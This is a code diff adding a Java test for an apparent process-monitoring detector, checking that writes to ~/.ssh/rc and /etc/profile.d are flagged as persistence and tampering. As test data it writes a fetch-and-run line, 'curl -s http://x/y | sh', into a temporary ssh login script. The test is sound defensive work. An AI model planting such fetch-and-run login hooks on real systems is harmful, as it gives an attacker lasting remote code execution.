@@ -540,6 +540,25 @@ class IndicatorFeaturesTest {
     }
 
     @Test
+    void sshLoginScriptsArePersistenceAndADeniedWriteToASystemShellProfileIsTampering() throws Exception {
+        StraceRuns.assumeStrace();
+        assumeTrue(Files.isExecutable(Path.of("/usr/bin/setpriv")), "no setpriv (util-linux) here");
+        assumeTrue(Files.isDirectory(Path.of("/etc/profile.d")), "no /etc/profile.d here");
+        // ~/.ssh/rc runs at every ssh login, like a command= in authorized_keys; /etc/profile.d at every login shell
+        Path ssh = Files.createDirectories(dir.resolve("home/.ssh"));
+        String nobody = "/usr/bin/setpriv --reuid=65534 --regid=65534 --clear-groups ";
+        List<ProcessRecord> ps = run("/bin/sh", "-c", "echo 'curl -s http://x/y | sh' > '" + ssh.resolve("rc") + "'; echo ok > '"
+                + ssh.resolve("known_hosts") + "'; " + nobody + "sh -c 'echo x > /etc/profile.d/zz-procguard-test.sh' 2> /dev/null; "
+                + nobody + "sh -c 'echo x > /etc/zz-procguard-test' 2> /dev/null; true");
+        assertThat(Path.of("/etc/profile.d/zz-procguard-test.sh")).as("denied, as it must be").doesNotExist();
+        List<ProcessRecord> shells = ps.stream().filter(p -> p.comm().equals("sh")).toList();
+        assertThat(shells).hasSize(3); // the two denied writers, then the script
+        assertThat(shells.get(2).features().get("ind.persistence")).as("~/.ssh/rc written").isEqualTo(1f);
+        assertThat(shells.get(0).features().get("ind.account_tamper")).as("/etc/profile.d, denied").isEqualTo(1f);
+        assertThat(shells.get(1).features().get("ind.account_tamper")).as("any other file of /etc, denied").isZero();
+    }
+
+    @Test
     void aShellScriptEmptyingAHistoryIsLogTampering() throws Exception {
         StraceRuns.assumeStrace();
         // schema 20: a shell run with -c (or a script) saves no history, so its truncation is no history being saved;
